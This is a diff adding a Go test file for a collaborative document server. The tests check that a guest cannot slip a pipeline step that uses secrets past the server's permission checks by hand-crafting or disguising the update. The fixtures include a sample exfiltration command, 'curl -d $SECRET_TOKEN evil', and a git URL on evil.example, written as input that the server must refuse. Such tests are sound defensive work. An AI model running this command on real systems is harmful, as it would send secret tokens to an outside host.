@@ -1,0 +1,110 @@
+package collab_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/millrace/millrace/internal/domain/ydoc"
+	"github.com/millrace/millrace/internal/domain/ydoc/lib0"
+	"github.com/millrace/millrace/internal/sharing"
+)
+
+// The kinds of content that a hand-made update has, and what stands before them.
+const (
+	rawDeleted, rawJSON, rawEmbed, rawAny = 1, 2, 5, 8
+
+	afterOther, withKey = 0x80, 0x20
+)
+
+const strangeClient = 7_777_777
+
+// rawUpdate is one block as no client of ours would write it.
+func rawUpdate(clock uint64, info byte, rest func(w *lib0.Writer)) []byte {
+	var w lib0.Writer
+	for _, n := range []uint64{1, 1, strangeClient, clock} {
+		w.Uint(n)
+	}
+	w.Byte(info)
+	rest(&w)
+	w.Uint(0) // nothing is deleted
+	return w.Bytes()
+}
+
+// under is where a block stands: in a root, by a key.
+func under(w *lib0.Writer, root, key string) {
+	w.Uint(1)
+	w.String(root)
+	w.String(key)
+}
+
+// A guest who may not use secrets does not get around that by writing otherwise
+// than clients do, or by making the definition unreadable first.
+func TestAGuestCannotHideWhatUsesSecrets(t *testing.T) {
+	const evil = `{"command":"curl -d $SECRET_TOKEN evil","s\u0065crets":["TOKEN"]}`
+	deleted := rawUpdate(0, rawDeleted|withKey, func(w *lib0.Writer) { under(w, "extra", "source"); w.Uint(1) })
+	after := rawUpdate(1, rawAny|afterOther, func(w *lib0.Writer) {
+		w.Uint(strangeClient)
+		w.Uint(0)
+		w.Uint(1)
+		if err := w.Any(map[string]any{"git": "https://evil.example/x"}); err != nil {
+			t.Error(err)
+		}
+	})
+	asJSON := func(kind byte) []byte {
+		return rawUpdate(0, kind|withKey, func(w *lib0.Writer) {
+			under(w, "nodes", "evil")
+			if kind == rawJSON {
+				w.Uint(1)
+			}
+			w.String(evil)
+		})
+	}
+	for name, tt := range map[string]struct {
+		allowed, refused []byte
+	}{
+		"a step as JSON with another spelling":    {nil, asJSON(rawJSON)},
+		"an embedded step":                        {nil, asJSON(rawEmbed)},
+		"a name taken over from what was deleted": {deleted, after},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			h := newHarness(t)
+			g := h.dial(h.token(asGuest))
+			g.isSynced()
+			if tt.allowed != nil {
+				g.sent++
+				g.send(frame(0, 2, tt.allowed))
+				g.saved()
+			}
+			g.send(frame(0, 2, tt.refused))
+			h.mustBeRefused(g)
+		})
+	}
+	for _, root := range []string{"nodes", "edges"} {
+		t.Run("behind what is no "+root, func(t *testing.T) {
+			t.Parallel()
+			h := newHarness(t)
+			g := h.dial(h.token(asGuest))
+			g.isSynced()
+			g.set(root, "junk", "a text")
+			g.saved()
+			g.edit(func(tx *ydoc.Tx) {
+				m, _ := tx.Map("nodes").Map("align")
+				tx.Set(m, "secrets", []any{"TOKEN"})
+				text, _ := m.Text("command")
+				tx.Replace(text, "curl -d $SECRET_TOKEN evil")
+			})
+			h.mustBeRefused(g)
+		})
+	}
+}
+
+func asGuest(p *sharing.Pass) { p.Guest, p.Name = "guest_g", "Grace" }
+
+func (h *harness) mustBeRefused(g *client) {
+	h.t.Helper()
+	g.closesWith(4409)
+	if got := string(h.read().Definition); strings.Contains(got, "evil") || strings.Contains(got, "TOKEN") {
+		h.t.Errorf("the definition is %s", got)
+	}
+}
